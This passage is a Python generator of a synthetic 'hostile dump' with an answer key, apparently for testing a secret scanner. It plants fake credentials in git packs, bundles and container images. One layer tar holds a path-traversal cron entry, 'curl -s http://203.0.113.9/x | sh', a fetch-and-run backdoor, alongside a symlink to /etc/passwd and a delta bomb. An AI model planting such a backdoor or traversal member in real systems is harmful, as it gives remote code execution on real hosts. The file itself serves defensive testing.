#!/usr/bin/env python3
"""Fifteenth hostile dump with an answer key (tests/e2e/test_hostile14.py).

make_hostile14.py OUT -> OUT/dump/... and OUT/key.json

Same key format as make_hostile3.py (its docstring lists the expect
fields) and make_hostile8.py's checker (entities_only, exact); the shared
helpers are tests/gen/hostile_common.py. This one lays out what leaks when
a SOFTWARE COMPANY's source, build artefacts, CI and cloud state are dumped
(the Twitch, Samsung, Nvidia, Uber and LastPass leaks), each file written
by hand from the format's documented layout with the standard library,
with fake secrets and PII:

- git: a working tree with .git (loose objects, a version 2 pack with an
  OFS_DELTA and its version 2 .idx, refs, packed-refs, a reflog, a stash
  whose commit and blob are loose, a remote URL holding a token in
  .git/config); a secret committed then deleted (the deleted file's blob
  and a removed line, only in the pack: a whole blob and a delta's
  inserted bytes; a password whose value alone was edited, so the older
  version's delta inserts the value and copies its label from the newer
  one; a pack as a fetch leaves it, REF_DELTAs with their bases appended
  after them); a delta chain deeper than git's 50, a delta bomb (20,000 copies
  of a 64 KiB base); a bare repository; `git bundle`s (v2 with a
  prerequisite and a thin REF_DELTA, v3 with a capability, one cut in its
  header, one without its pack); a pack cut in the middle; the repository
  as a source tarball;
- artefacts: a `docker save` image (manifest.json, repositories, the
  config JSON with a secret in Env and one in the build history, layer
  tars, a whiteout .wh. of the file that held a password, a member that
  climbs ../), an OCI image layout (index.json, blobs/sha256/ with a
  gzip'd layer), an npm package .tgz (package/.npmrc, a source map), a
  Python wheel and an sdist (a .pypirc packed by mistake), a JAR (a class
  file whose constant pool holds the secrets as CONSTANT_Utf8, modified
  UTF-8 with an encoded NUL), a WAR holding that JAR, an Android APK
  (classes.dex string table, resources.arsc UTF-16 string pool), an
  Electron .asar (Chromium pickle header, JSON index, files back to back);
- config and state: Terraform .tfstate and .tfvars, a kubeconfig whose
  client-key-data is a base64'd PEM key, Kubernetes Secret manifests
  (data: base64, stringData:), Helm values, docker-compose.yml, .env,
  kubectl's JSON list of Secrets, a Secret holding a JKS and a PKCS#12,
  a Helm 3 release Secret (base64 of base64 of a gzip'd release JSON whose
  values hold a password), docker's config.json, the AWS CLI's STS cache,
  the GitHub CLI's hosts.yml, Ansible Vault (whole file, and a !vault
  value inside YAML), Jenkins
  credentials.xml, .npmrc, .pypirc, .netrc, .git-credentials, AWS, GCP and
  Azure CLI credential files, a GCP service-account key, OpenSSH keys
  (openssh-key-v1, cipher none and aes256-ctr/bcrypt), PKCS#12 and JKS key
  stores and a certificate-only trust store;
- logs and notebooks: CI logs with secrets (GitHub Actions, Jenkins) and
  their masked *** twins (which must stay clean), a Jupyter notebook with
  PII in an output cell and a PNG output, a source map, a SQLite app
  database;
- hostile touches: a symlink out of the tree inside the repository, a
  path-traversal member in a layer tar, a zip bomb among the build
  artefacts with a secret after it, a truncated pack.

What this dump made leaksift read (src/extract/git.c, sealed.c,
k8ssecret.c, asar.c): git bundles; deltas applied to their bases (OFS, and
REF when the base is in the pack);
Ansible Vault values inside text; Kubernetes Secret values that are files
(key stores, Helm's double-base64 gzip'd release); Electron asar archives
(each file a member).

"gap" and "arguable" marks as make_hostile3.py's docstring says.

Python stdlib only; deterministic.
"""
import base64
import gzip
import hashlib
import io
import json
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_common as hc  # noqa: E402
import gen_git as gg  # noqa: E402  (git objects, pack headers, deltas)
import gen_secrets_stores as gs  # noqa: E402  (DER, PKCS#12, JKS)

FP_KEY = b"hostile14 fingerprint key, test only"
D = hc.Dump(FP_KEY, domain="acme-soft.test", ssn_base=470)
key, put, person, pl = D.key, D.put, D.person, D.pl
check = hc.check
GIT = "ACME-DEV/src"
ART = "ACME-DEV/artifacts"
OPS = "ACME-DEV/ops"
HOME = "ACME-DEV/home/jdoe"
CI = "ACME-DEV/ci"
R = random.Random(1417)
ALNUM = hc.ALNUM
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
TS = 1416819600  # 2014-11-24 09:00 UTC
TAR_TIME = TS


def rs(n, alphabet=ALNUM):
    return hc.rand_str(R, n, alphabet)


def ghp():
    return "ghp_" + rs(36)


def glpat():
    return "glpat-" + rs(20)


def npm():
    return "npm_" + rs(36)


def pypi():
    return "pypi-AgEIcHlwaS5vcmc" + rs(64)


def stripe(kind="sk_live_"):
    return kind + rs(24)


def slack():
    return "xoxb-%d-%d-%s" % (R.randrange(10 ** 11, 10 ** 12), R.randrange(10 ** 11, 10 ** 12), rs(24))


def gapi():
    return "AIza" + rs(35)


def aws_id():
    return "AKIA" + rs(16, B32)


def aws_secret():
    return rs(40)


def pw():
    """A password that a policy would accept: letters, digits, a symbol."""
    return rs(10) + R.choice("!#%&*+") + rs(3)


def pw_from(rng):
    """pw() drawn from rng."""
    while True:
        s = "".join(rng.choice(ALNUM) for _ in range(10)) + rng.choice("!#%&*+") + "".join(
            rng.choice(ALNUM) for _ in range(3))
        if any(c.isupper() for c in s) and any(c.islower() for c in s) and any(c.isdigit() for c in s):
            return s


def pem_body(nbytes=600):
    b = base64.b64encode(bytes(R.randrange(256) for _ in range(nbytes))).decode()
    return b


def pem(kind, body):
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return "-----BEGIN %s-----\n%s\n-----END %s-----\n" % (kind, "\n".join(lines), kind)


def key_fp(body):
    """private_key's norm: the base64 body, no line breaks, first 255."""
    return body.replace("\n", "")[:255]


def tarb(members, gz=False):
    """[(name, bytes) or (name, None) for a directory or (name, ('sym', target))] -> tar bytes."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = TAR_TIME
            ti.uname = ti.gname = "root"
            if data is None:
                ti.type = tarfile.DIRTYPE
                ti.mode = 0o755
                t.addfile(ti)
            elif isinstance(data, tuple):
                ti.type = tarfile.SYMTYPE
                ti.linkname = data[1]
                t.addfile(ti)
            else:
                ti.size = len(data)
                ti.mode = 0o644
                t.addfile(ti, io.BytesIO(data))
    raw = b.getvalue()
    if gz:
        return gzip.compress(raw, mtime=TAR_TIME)
    return raw


# ---------------------------------------------------------------- git
AUTHOR = b"Jane Doe <jane.doe@acme-soft.test> 1416819600 -0800"


def git_commit(tree_id, parents, msg, who=AUTHOR):
    s = b"tree %s\n" % tree_id.hex().encode()
    for p in parents:
        s += b"parent %s\n" % p.hex().encode()
    return s + b"author %s\ncommitter %s\n\n%s\n" % (who, who, msg)


def git_tree(entries):
    # git sorts tree entries by name (directories as if NAME/)
    ent = sorted(entries, key=lambda e: e[1] + (b"/" if e[0] == b"40000" else b""))
    return gg.tree(ent)


def pack_objects(objs):
    """objs: [(kind, body) | ("delta", base_index, delta_bytes)] -> (pack bytes,
    [(id, offset, crc)] of every object)."""
    out = bytearray(b"PACK" + struct.pack(">II", 2, len(objs)))
    offs, index = [], []
    ids = []
    for o in objs:
        at = len(out)
        if o[0] == "delta":
            _, base, d, result_kind, result_body = o
            rec = gg.pack_header(6, len(d)) + gg.ofs(at - offs[base]) + zlib.compress(d)
            oid = gg.obj_id(result_kind, result_body)
        elif o[0] == "ref":  # a REF_DELTA: the base named by id (a thin pack's base is not in it)
            _, base_id, d, result_kind, result_body = o
            rec = gg.pack_header(7, len(d)) + base_id + zlib.compress(d)
            oid = gg.obj_id(result_kind, result_body)
        else:
            kind, body = o
            code = {b"commit": 1, b"tree": 2, b"blob": 3, b"tag": 4}[kind]
            rec = gg.pack_header(code, len(body)) + zlib.compress(body)
            oid = gg.obj_id(kind, body)
        out += rec
        offs.append(at)
        ids.append(oid)
        index.append((oid, at, zlib.crc32(rec) & 0xFFFFFFFF))
    out += hashlib.sha1(out).digest()
    return bytes(out), index


def pack_idx(pack, index):
    """A version 2 pack index: magic, version, fan-out, sorted ids, CRCs,
    offsets, the pack's checksum and its own."""
    ent = sorted(index)
    fan = [0] * 256
    for oid, _, _ in ent:
        fan[oid[0]] += 1
    acc, fanout = 0, []
    for n in fan:
        acc += n
        fanout.append(acc)
    out = b"\377tOc" + struct.pack(">I", 2) + struct.pack(">256I", *fanout)
    out += b"".join(e[0] for e in ent)
    out += b"".join(struct.pack(">I", e[2]) for e in ent)
    out += b"".join(struct.pack(">I", e[1]) for e in ent)
    out += pack[-20:]
    return out + hashlib.sha1(out).digest()


def asar_file(files):
    """An Electron asar of [(path, bytes)]: a pickle header (4, header size), a
    pickle (payload size, JSON length, the JSON index, padding), the files."""
    tree, off, data = {"files": {}}, 0, b""
    for name, b in files:
        node = tree
        parts = name.split("/")
        for p in parts[:-1]:
            node = node["files"].setdefault(p, {"files": {}})
        node["files"][parts[-1]] = {"size": len(b), "offset": str(off)}
        off += len(b)
        data += b
    js = json.dumps(tree, separators=(",", ":")).encode()
    pad = (4 - len(js) % 4) % 4
    pickle = struct.pack("<II", 4 + len(js) + pad, len(js)) + js + b"\0" * pad
    return struct.pack("<II", 4, len(pickle)) + pickle + data


def put_loose(gitdir, kind, body):
    oid = gg.obj_id(kind, body).hex()
    return put("%s/objects/%s/%s" % (gitdir, oid[:2], oid[2:]), gg.loose(kind, body)), oid


def openssh_key(comment, encrypted=False):
    """An openssh-key-v1 private key file (PROTOCOL.key): magic, cipher,
    kdf, kdf options, one public key, the private section (check ints,
    key type, public, private, comment, padding) - encrypted: random
    bytes of the padded length under aes256-ctr/bcrypt."""
    def s(b):
        return struct.pack(">I", len(b)) + b
    pub = bytes(R.randrange(256) for _ in range(32))
    priv = bytes(R.randrange(256) for _ in range(32)) + pub
    pubblob = s(b"ssh-ed25519") + s(pub)
    chk = R.randrange(1 << 32)
    sect = struct.pack(">II", chk, chk) + s(b"ssh-ed25519") + s(pub) + s(priv) + s(comment.encode())
    i = 1
    while len(sect) % (16 if encrypted else 8):
        sect += bytes([i])
        i += 1
    if encrypted:
        cipher, kdf = b"aes256-ctr", b"bcrypt"
        kdfopt = s(s(bytes(R.randrange(256) for _ in range(16))) + struct.pack(">I", 16))
        sect = bytes(R.randrange(256) for _ in range(len(sect)))
    else:
        cipher, kdf, kdfopt = b"none", b"none", s(b"")
    blob = (b"openssh-key-v1\0" + s(cipher) + s(kdf) + kdfopt + struct.pack(">I", 1) + s(pubblob) + s(sect))
    body = base64.b64encode(blob).decode()
    lines = [body[i:i + 70] for i in range(0, len(body), 70)]
    txt = "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n" % "\n".join(lines)
    return txt, body, "ssh-ed25519 " + base64.b64encode(pubblob).decode() + " " + comment + "\n"


def git_cases():
    repo = GIT + "/payments-api"
    gd = repo + "/.git"
    a_id, a_sec = aws_id(), aws_secret()
    base = "".join("SETTING_%02d = 'value %d'\n" % (i, i) for i in range(40)).encode()
    secret_lines = ("AWS_ACCESS_KEY_ID = '%s'\nAWS_SECRET_ACCESS_KEY = '%s'\n" % (a_id, a_sec)).encode()
    cut = len(base) // 2
    settings_v1 = base[:cut] + secret_lines + base[cut:]
    settings_v2 = base
    dkey_txt, dkey_body, dkey_pub = openssh_key("deploy@payments-api")
    readme = b"# payments-api\n\nThe payment service. See docs/ for the runbook.\n"
    app_py = b"from flask import Flask\napp = Flask(__name__)\n\n@app.route('/health')\ndef health():\n    return 'ok'\n"
    # mail.py: the password's value was replaced by an environment lookup; the
    # older version's delta copies "SMTP_PASSWORD = " from the newer one and
    # inserts only the value: the label is in the base, not in the delta
    smtp_pw = pw()
    mail_head = b"import os\n\nSMTP_HOST = 'smtp.acme-soft.test'\nSMTP_USER = 'noreply'\nSMTP_PASSWORD = "
    mail_tail = b"\nSMTP_PORT = 587\nSMTP_TLS = True\n" + b"".join(b"# mail template %02d lives in templates/\n" % i
                                                                   for i in range(12))
    mail_v2 = mail_head + b"os.environ['SMTP_PASSWORD']" + mail_tail
    mail_v1 = mail_head + b"'%s'" % smtp_pw.encode() + mail_tail
    # commit 1: the secret in settings.py and a deploy key (both in the pack only)
    cfg1 = git_tree([(b"100644", b"mail.py", gg.obj_id(b"blob", mail_v1)),
                     (b"100644", b"settings.py", gg.obj_id(b"blob", settings_v1))])
    dep1 = git_tree([(b"100600", b"id_ed25519_deploy", gg.obj_id(b"blob", dkey_txt.encode()))])
    t1 = git_tree([(b"100644", b"README.md", gg.obj_id(b"blob", readme)), (b"40000", b"config", gg.obj_id(b"tree", cfg1)),
                   (b"40000", b"deploy", gg.obj_id(b"tree", dep1))])
    c1 = git_commit(gg.obj_id(b"tree", t1), [], b"initial import of the payment service")
    # commit 2: secrets removed
    cfg2 = git_tree([(b"100644", b"mail.py", gg.obj_id(b"blob", mail_v2)),
                     (b"100644", b"settings.py", gg.obj_id(b"blob", settings_v2))])
    t2 = git_tree([(b"100644", b"README.md", gg.obj_id(b"blob", readme)), (b"40000", b"config", gg.obj_id(b"tree", cfg2))])
    c2 = git_commit(gg.obj_id(b"tree", t2), [gg.obj_id(b"commit", c1)], b"remove credentials (rotate them!)")
    # git packs the newer blob whole and the older one as a delta of it
    d = gg.delta(settings_v2, cut, secret_lines)
    objs = [(b"commit", c2), (b"commit", c1), (b"tree", t2), (b"tree", cfg2), (b"blob", readme), (b"blob", settings_v2),
            (b"tree", t1), (b"tree", cfg1), (b"tree", dep1), (b"blob", dkey_txt.encode()),
            ("delta", 5, d, b"blob", settings_v1), (b"blob", mail_v2),
            ("delta", 11, gg.delta(mail_v2, len(mail_head), b"'%s'" % smtp_pw.encode(), len(mail_v2) - len(mail_tail)),
             b"blob", mail_v1)]
    pk, index = pack_objects(objs)
    pname = "pack-" + hashlib.sha1(pk).hexdigest()
    rp = put(gd + "/objects/pack/%s.pack" % pname, pk)
    key("git_pack_deleted_aws", rp, None, planted_under={"aws_key": [a_id], "aws_secret": [a_sec]})
    key("git_pack_deleted_deploy_key", rp, None, planted_under={"private_key": [key_fp(dkey_body)]})
    key("git_pack_sensitive", rp, [], verdict="sensitive", coverage="full")
    key("git_pack_delta_value_only", rp, None, planted_under={"password": [smtp_pw]})
    ri = put(gd + "/objects/pack/%s.idx" % pname, pack_idx(pk, index))
    key("git_idx_clean", ri, [], no_findings=True)
    # commit 3 (HEAD): loose objects
    cfg3 = cfg2
    src3 = git_tree([(b"100644", b"app.py", gg.obj_id(b"blob", app_py))])
    t3 = git_tree([(b"100644", b"README.md", gg.obj_id(b"blob", readme)), (b"40000", b"config", gg.obj_id(b"tree", cfg3)),
                   (b"40000", b"src", gg.obj_id(b"tree", src3)), (b"120000", b"vault", gg.obj_id(b"blob", b"/etc/acme/vault"))])
    c3 = git_commit(gg.obj_id(b"tree", t3), [gg.obj_id(b"commit", c2)], b"health endpoint")
    rb, _ = put_loose(gd, b"blob", app_py)
    key("git_loose_blob_clean", rb, None, verdict="clean")
    rl, _ = put_loose(gd, b"blob", b"/etc/acme/vault")
    key("git_loose_symlink_blob_clean", rl, None, verdict="clean")
    rt, _ = put_loose(gd, b"tree", src3)
    key("git_loose_tree_clean", rt, None, verdict="clean")
    rt3, _ = put_loose(gd, b"tree", t3)
    key("git_loose_root_tree_clean", rt3, None, verdict="clean")
    rc, c3id = put_loose(gd, b"commit", c3)
    key("git_loose_commit_author", rc, [], planted={"email": ["jane.doe@acme-soft.test"]})
    # a stash: the work-in-progress commit and its blob are loose
    db_pw = pw()
    local = ("DATABASES = {'default': {'ENGINE': 'django.db.backends.postgresql', 'NAME': 'payments',\n"
             "    'USER': 'payments', 'PASSWORD': '%s', 'HOST': 'db-prod.acme-soft.test'}}\n" % db_pw).encode()
    rsb, _ = put_loose(gd, b"blob", local)
    key("git_stash_blob_password", rsb, None, planted_under={"password": [db_pw]})
    cfgs = git_tree([(b"100644", b"local_settings.py", gg.obj_id(b"blob", local)),
                     (b"100644", b"mail.py", gg.obj_id(b"blob", mail_v2)),
                     (b"100644", b"settings.py", gg.obj_id(b"blob", settings_v2))])
    rst, _ = put_loose(gd, b"tree", cfgs)
    key("git_stash_tree_clean", rst, None, verdict="clean")
    ts = git_tree([(b"100644", b"README.md", gg.obj_id(b"blob", readme)), (b"40000", b"config", gg.obj_id(b"tree", cfgs)),
                   (b"40000", b"src", gg.obj_id(b"tree", src3))])
    rts, _ = put_loose(gd, b"tree", ts)
    key("git_stash_root_tree_clean", rts, None, verdict="clean")
    cs = git_commit(gg.obj_id(b"tree", ts), [bytes.fromhex(c3id)], b"WIP on main: local db settings")
    rcs, cs_id = put_loose(gd, b"commit", cs)
    key("git_stash_commit", rcs, [], entities_only=["email"])
    # refs, HEAD, config with a token in the remote URL, a reflog
    tok = ghp()
    r = put(gd + "/config", ("[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
                             "[remote \"origin\"]\n\turl = https://deploy-bot:%s@github.com/acme-soft/payments-api.git\n"
                             "\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n"
                             "\tmerge = refs/heads/main\n" % tok).encode())
    key("git_config_remote_token", r, [], planted={"token": [tok]})
    r = put(gd + "/HEAD", b"ref: refs/heads/main\n")
    key("git_head_clean", r, [], no_findings=True)
    r = put(gd + "/refs/heads/main", c3id.encode() + b"\n")
    key("git_ref_clean", r, [], no_findings=True)
    r = put(gd + "/refs/stash", cs_id.encode() + b"\n")
    key("git_stash_ref_clean", r, [], no_findings=True)
    r = put(gd + "/packed-refs", ("# pack-refs with: peeled fully-peeled sorted \n%s refs/remotes/origin/main\n"
                                  "%s refs/tags/v1.0.0\n" % (gg.obj_id(b"commit", c2).hex(),
                                                             gg.obj_id(b"commit", c1).hex())).encode())
    key("git_packed_refs_clean", r, [], no_findings=True)
    z = "0" * 40
    r = put(gd + "/logs/HEAD", ("%s %s Jane Doe <jane.doe@acme-soft.test> 1416819600 -0800\tclone: from github.com\n"
                                "%s %s Raj Patel <raj.patel@acme-soft.test> 1416906000 -0800\tcommit: health endpoint\n"
                                % (z, gg.obj_id(b"commit", c2).hex(), gg.obj_id(b"commit", c2).hex(), c3id)).encode())
    key("git_reflog_emails", r, [], exact={"email": ["jane.doe@acme-soft.test", "raj.patel@acme-soft.test"]})
    r = put(gd + "/description", b"Unnamed repository; edit this file 'description' to name the repository.\n")
    key("git_description_clean", r, [], no_findings=True)
    # the working tree: the secret is gone from it
    r = put(repo + "/config/settings.py", settings_v2)
    key("worktree_settings_clean", r, [], no_findings=True)
    r = put(repo + "/src/app.py", app_py)
    key("worktree_app_clean", r, [], no_findings=True)
    r = put(repo + "/README.md", readme)
    key("worktree_readme_clean", r, [], no_findings=True)
    # a symlink out of the tree (the repo's 'vault' entry, checked out)
    os.symlink("/etc/passwd", os.path.join(D.root, repo, "vault"))
    key("worktree_symlink_out", repo + "/vault", [], verdict_in=["clean", "hostile"], no_findings=True)
    # a pack cut in the middle of the deleted deploy key's blob
    at = [o for o in index if o[0] == gg.obj_id(b"blob", dkey_txt.encode())][0][1]
    r = put(GIT + "/recovered/pack-cut.pack", pk[:at + 60])
    key("git_pack_cut", r, [], coverage="partial", reasons_any=["truncated", "parse_error"],
        verdict_in=["incomplete", "hostile", "sensitive"])
    key("git_pack_cut_email_before", r, None, planted_under={"email": ["jane.doe@acme-soft.test"]})

    # a delta bomb: a 64 KiB blob and a delta of 20,000 copies of all of it
    # (1.3 GB declared, 60 KB compressed): building it stops at its limit,
    # the pack is no bomb for that and the whole blob is still read
    big = b"".join(b"log line %05d of the build, nothing secret\n" % i for i in range(1560))[:65536]
    bomb_d = gg.varint(len(big)) + gg.varint(len(big) * 20000) + b"\x80" * 20000  # copy 0x10000 from 0
    pkb, _ = pack_objects([(b"blob", big), ("delta", 0, bomb_d, b"blob", big)])
    r = put(GIT + "/recovered/pack-delta-bomb.pack", pkb)
    key("git_delta_bomb_not_hostile", r, [], verdict="clean", alerts_none=["zip_bomb"])
    key("git_delta_bomb_whole_blob_read", r, ["blob@12"], no_findings=True)
    # a chain of 80 deltas (git's default depth is 50): each version adds a
    # line; the deepest ones are past the build limit and give their lines as text
    ver = b"# deploy hosts\n"
    chain = [(b"blob", ver)]
    chain_pw = pw()
    for i in range(80):
        ln = (b"vault_password = '%s'\n" % chain_pw.encode()) if i == 77 else \
            b"host-%02d.acme-soft.test ansible_user=deploy\n" % i
        nv = ver + ln
        chain.append(("delta", i, gg.delta(ver, len(ver), ln, len(ver)), b"blob", nv))
        ver = nv
    pkc, _ = pack_objects(chain)
    r = put(GIT + "/recovered/pack-deep-chain.pack", pkc)
    key("git_deep_chain_password", r, None, planted_under={"password": [chain_pw]})

    # the repository backed up as a tarball, .git and all
    src_tgz = tarb([("payments-api/", None), ("payments-api/.git/", None),
                    ("payments-api/.git/config", open(os.path.join(D.root, gd, "config"), "rb").read()),
                    ("payments-api/.git/objects/pack/%s.pack" % pname, pk),
                    ("payments-api/config/settings.py", settings_v2)], gz=True)
    r = put(GIT + "/backups/payments-api-src-20141124.tar.gz", src_tgz)
    key("src_tarball_pack_delta_value", r, None, planted_under={"password": [smtp_pw], "aws_key": [a_id], "token": [tok]})

    # a pack as a fetch leaves it (index-pack --fix-thin): the changed blob a REF_DELTA, its base
    # appended after it as a whole object; the edit replaced only the password's value
    f_pw = pw()
    f_head = b"[client]\nhost = db-prod.acme-soft.test\nuser = reporting\npassword = "
    f_tail = b"\nport = 3306\n" + b"".join(b"# reporting query %02d runs nightly\n" % i for i in range(10))
    f_new = f_head + b"%s" % f_pw.encode() + f_tail
    f_old = f_head + b"${MYSQL_PWD}" + f_tail
    ft = git_tree([(b"100600", b"my.cnf", gg.obj_id(b"blob", f_new))])
    fc = git_commit(gg.obj_id(b"tree", ft), [], b"reporting credentials", AUTHOR)
    pkf, _ = pack_objects([(b"commit", fc), (b"tree", ft),
                           ("ref", gg.obj_id(b"blob", f_old), gg.delta(f_old, len(f_head), f_pw.encode(),
                                                                        len(f_old) - len(f_tail)), b"blob", f_new),
                           (b"blob", f_old)])
    r = put(gd + "/objects/pack/pack-%s.pack" % hashlib.sha1(pkf).hexdigest(), pkf)
    key("git_fetched_pack_ref_delta_value", r, None, planted_under={"password": [f_pw]})

    # a bare repository: infrastructure code, a tfvars committed with a password
    bare = GIT + "/infra.git"
    tf_pw = pw()
    tfvars = ('region = "us-west-2"\ndb_username = "infra_admin"\ndb_password = "%s"\n' % tf_pw).encode()
    main_tf = b'resource "aws_db_instance" "main" {\n  engine = "postgres"\n  password = var.db_password\n}\n'
    ti = git_tree([(b"100644", b"main.tf", gg.obj_id(b"blob", main_tf)),
                   (b"100644", b"prod.tfvars", gg.obj_id(b"blob", tfvars))])
    who = b"Raj Patel <raj.patel@acme-soft.test> 1416906000 -0800"
    ci = git_commit(gg.obj_id(b"tree", ti), [], b"prod database", who)
    pk2, idx2 = pack_objects([(b"commit", ci), (b"tree", ti), (b"blob", main_tf), (b"blob", tfvars)])
    pn2 = "pack-" + hashlib.sha1(pk2).hexdigest()
    r = put(bare + "/objects/pack/%s.pack" % pn2, pk2)
    key("bare_pack_tfvars_password", r, None, planted_under={"password": [tf_pw]})
    r = put(bare + "/objects/pack/%s.idx" % pn2, pack_idx(pk2, idx2))
    key("bare_idx_clean", r, [], no_findings=True)
    r = put(bare + "/HEAD", b"ref: refs/heads/main\n")
    key("bare_head_clean", r, [], no_findings=True)
    r = put(bare + "/config", b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = true\n")
    key("bare_config_clean", r, [], no_findings=True)
    r = put(bare + "/packed-refs", ("# pack-refs with: peeled fully-peeled sorted \n%s refs/heads/main\n"
                                    % gg.obj_id(b"commit", ci).hex()).encode())
    key("bare_packed_refs_clean", r, [], no_findings=True)

    # a git bundle (git bundle create): "# v2 git bundle", prerequisites and refs, a blank line, a pack
    b_tok = slack()
    notify = ("#!/bin/sh\n# post the deploy to #releases\ncurl -s -X POST -H 'Authorization: Bearer %s' \\\n"
              "  -d channel=releases https://slack.com/api/chat.postMessage\n" % b_tok).encode()
    # thin: rollback.sh's blob is a REF_DELTA against a version the bundle's
    # prerequisite has (not in the bundle): only its inserted line can be read
    hook = "https://hooks.slack.com/services/T%s/B%s/%s" % (rs(8, B32), rs(8, B32), rs(24))
    rb_old = b"#!/bin/sh\n# roll back the last deploy\n" + b"".join(b"step %d of the rollback\n" % i for i in range(20))
    rb_line = b"curl -s -X POST -d '{\"text\":\"rolled back\"}' %s\n" % hook.encode()
    rb_new = rb_old[:40] + rb_line + rb_old[40:]
    tb = git_tree([(b"100755", b"notify.sh", gg.obj_id(b"blob", notify)),
                   (b"100755", b"rollback.sh", gg.obj_id(b"blob", rb_new))])
    cb = git_commit(gg.obj_id(b"tree", tb), [], b"deploy notifications", who)
    pk3, _ = pack_objects([(b"commit", cb), (b"tree", tb), (b"blob", notify),
                           ("ref", gg.obj_id(b"blob", rb_old), gg.delta(rb_old, 40, rb_line), b"blob", rb_new)])
    bundle = b"# v2 git bundle\n-%s initial import\n%s refs/heads/main\n%s HEAD\n\n" % (
        gg.obj_id(b"commit", c1).hex().encode(), gg.obj_id(b"commit", cb).hex().encode(),
        gg.obj_id(b"commit", cb).hex().encode()) + pk3
    r = put(GIT + "/backups/deploy-scripts-2014-11-24.bundle", bundle)
    key("git_bundle_token", r, None, planted_under={"token": [b_tok]})
    key("git_bundle_author", r, None, planted_under={"email": ["raj.patel@acme-soft.test"]})
    key("git_bundle_thin_ref_delta", r, [], planted={"token": [hook]})
    # a v3 bundle (git 2.36+: capabilities after the signature)
    pk4, _ = pack_objects([(b"commit", cb), (b"tree", tb), (b"blob", notify)])
    bundle3 = (b"# v3 git bundle\n@object-format=sha1\n%s refs/heads/main\n\n" % gg.obj_id(b"commit", cb).hex().encode()
               + pk4)
    r = put(GIT + "/backups/deploy-scripts-v3.bundle", bundle3)
    key("git_bundle_v3_token", r, None, planted_under={"token": [b_tok]})
    key("git_bundle_v3_full", r, [], coverage="full", verdict="sensitive")
    # a bundle cut inside its header (a copy that stopped early): never clean
    r = put(GIT + "/backups/deploy-scripts-cut.bundle", bundle[:70])
    key("git_bundle_cut_header", r, [], coverage="partial", reasons_all=["truncated"], verdict_in=["incomplete", "hostile"])
    # a bundle whose pack is not a pack
    r = put(GIT + "/backups/deploy-scripts-nopack.bundle", bundle.split(b"PACK")[0] + b"JUNK" + bytes(40))
    key("git_bundle_no_pack", r, [], coverage="partial", reasons_all=["parse_error"], verdict_in=["incomplete", "hostile"])


# ---------------------------------------------------------------- containers and packages
def docker_cases():
    npm_tok, stripe_key, pg_pw = npm(), stripe(), pw()
    env = ("NODE_ENV=production\nDATABASE_URL=postgres://payments:%s@db-prod.acme-soft.test:5432/payments\n" % pg_pw).encode()
    server = b"const express = require('express');\nconst app = express();\napp.listen(8080);\n"
    layer1 = tarb([("app/", None), ("app/server.js", server), ("app/.env", env)])
    # layer 2 deletes .env with a whiteout, and carries a member that climbs out
    layer2 = tarb([("app/", None), ("app/.wh..env", b""),
                   ("../../../etc/cron.d/acme-backdoor", b"* * * * * root curl -s http://203.0.113.9/x | sh\n")])
    l1 = hashlib.sha256(layer1).hexdigest()
    l2 = hashlib.sha256(layer2).hexdigest()
    cfg = {"architecture": "amd64", "os": "linux",
           "config": {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "STRIPE_SECRET_KEY=%s" % stripe_key],
                      "Cmd": ["node", "app/server.js"], "WorkingDir": "/"},
           "history": [{"created": "2014-11-24T09:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:1f3c in / "},
                       {"created": "2014-11-24T09:01:00Z",
                        "created_by": "/bin/sh -c echo \"//registry.npmjs.org/:_authToken=%s\" > /root/.npmrc && "
                                      "npm ci && rm /root/.npmrc" % npm_tok}],
           "rootfs": {"type": "layers", "diff_ids": ["sha256:" + l1, "sha256:" + l2]}}
    cfgb = json.dumps(cfg, indent=None).encode()
    cid = hashlib.sha256(cfgb).hexdigest()
    manifest = [{"Config": cid + ".json", "RepoTags": ["acme/payments-web:1.4.2"],
                 "Layers": [l1 + "/layer.tar", l2 + "/layer.tar"]}]
    img = tarb([(cid + ".json", cfgb), (l1 + "/", None), (l1 + "/VERSION", b"1.0"), (l1 + "/json", b'{"id":"%s"}' % l1.encode()),
                (l1 + "/layer.tar", layer1), (l2 + "/", None), (l2 + "/VERSION", b"1.0"),
                (l2 + "/json", b'{"id":"%s","parent":"%s"}' % (l2.encode(), l1.encode())), (l2 + "/layer.tar", layer2),
                ("manifest.json", json.dumps(manifest).encode()),
                ("repositories", json.dumps({"acme/payments-web": {"1.4.2": l2}}).encode())])
    r = put(ART + "/images/payments-web_1.4.2.tar", img)
    key("docker_config_env_stripe", r, [cid + ".json"], planted={"token": [stripe_key, npm_tok]})
    key("docker_layer_env_password", r, [l1 + "/layer.tar", "app/.env"], planted={"password": [pg_pw]})
    key("docker_layer_server_clean", r, [l1 + "/layer.tar", "app/server.js"], no_findings=True)
    key("docker_manifest_clean", r, ["manifest.json"], no_findings=True)
    key("docker_whiteout_clean", r, [l2 + "/layer.tar", "app/.wh..env"], no_findings=True)
    key("docker_layer_traversal", r, None, alerts_under=["path_traversal"])
    key("docker_image_sensitive", r, None, verdict_in=["sensitive", "hostile"])

    # an OCI image layout: the layer a gzip'd tar under blobs/sha256/
    a_id, a_sec = aws_id(), aws_secret()
    creds = ("[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = us-west-2\n" % (a_id, a_sec)).encode()
    layer = tarb([("root/", None), ("root/.aws/", None), ("root/.aws/credentials", creds),
                  ("usr/local/bin/worker", b"#!/bin/sh\nexec python3 -m worker\n")], gz=True)
    ld = hashlib.sha256(layer).hexdigest()
    ocfg = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/usr/bin"]},
                       "rootfs": {"type": "layers", "diff_ids": ["sha256:" + ld]}}).encode()
